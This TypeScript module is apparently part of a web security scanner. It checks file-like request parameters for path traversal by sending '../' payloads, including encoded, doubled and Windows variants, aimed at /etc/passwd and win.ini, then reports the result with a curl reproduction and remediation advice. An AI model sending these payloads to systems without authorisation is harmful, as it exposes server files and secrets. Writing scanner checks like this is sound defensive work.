/**
 * Path traversal: parameters whose name or value looks like a file (file, path, page,
 * template, download…, or a value with a dot extension or a slash) get `../` sequences
 * (plain, encoded, doubled, absolute) towards /etc/passwd and win.ini; the file's known
 * content in the answer, absent from the original answer, is the proof.
 */
import { evidenceOf } from '../../findings/evidence.js';
import type { Check } from '../check.js';
import { curlFor, injectionPointsOf, pointLabel, pointWhat, sendTo, urlWith } from './injection-points.js';

const FILE_NAMES =
  /^(file|filename|path|filepath|page|template|tpl|doc|document|download|include|inc|dir|folder|name|img|image|src|load|read|view|lang|style)$/i;
const UP = '../'.repeat(8);
export const TRAVERSAL_PAYLOADS = [
  `${UP}etc/passwd`,
  `${UP.replace(/\//g, '%2f')}etc%2fpasswd`,
  `${'....//'.repeat(8)}etc/passwd`,
  '/etc/passwd',
  `${'..\\'.repeat(8)}windows\\win.ini`,
];
const PROOFS = [/root:[x*!]?:0:0:/, /\[fonts\]|; for 16-bit app support/i];

export const pathTraversalCheck: Check = {
  id: 'path-traversal',
  kind: 'active',
  attackClass: 'access-control',
  title: 'Path traversal through file-like parameters',
  async run(context) {
    const points = injectionPointsOf(context.site).filter((p) => {
      const value = p.params[p.name] ?? '';
      return FILE_NAMES.test(p.name) || /\.\w{1,5}$/.test(value) || value.includes('/');
    });
    let tested = 0;
    for (const point of points) {
      const baseline = await sendTo(context, point, point.params[point.name] ?? '');
      if (!baseline.ok) {
        context.notChecked(pointLabel(point), `path-traversal: ${baseline.detail}`);
        continue;
      }
      tested++;
      for (const payload of TRAVERSAL_PAYLOADS) {
        // Pre-encoded payloads must reach the server as written: set them into the URL raw.
        const raw = point.method === 'GET' && payload.includes('%2f');
        const url = raw ? urlWith(point, '').replace(`${point.name}=`, `${point.name}=${payload}`) : '';
        const res = raw ? await context.http.send({ url }) : await sendTo(context, point, payload);
        if (!res.ok) break;
        const proof = PROOFS.map((pattern) => pattern.exec(res.body)).find(
          (m) => m && !baseline.body.includes(m[0]),
        );
        if (!proof) continue;
        context.report({
          checkId: 'path-traversal',
          attackClass: 'access-control',
          title: `Path traversal in ${pointWhat(point)}`,
          cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
          cwe: 'CWE-22',
          url: point.url,
          method: point.method,
          parameter: point.name,
          description: `The ${point.name} parameter is used as a file path: ${JSON.stringify(payload)} read a system file, so configuration files and secrets on the server can be read too.`,
          evidence: evidenceOf(res, `system file content: ${proof[0]}`, proof[0]),
          reproduce: raw ? `curl -s '${url}'` : curlFor(point, payload),
          remediation:
            'Never build file paths from request values; map ids to files from an allow-list, or resolve the path and check it stays inside the intended directory.',
          data: { payload },
        });
        break;
      }
    }
    return points.length === 0
      ? { status: 'tested', tested: 0, reason: 'no file-like parameter was found' }
      : tested < points.length
        ? { status: 'partial', tested, reason: `${points.length - tested} parameters could not be tested` }
        : { status: 'tested', tested };
  },
};
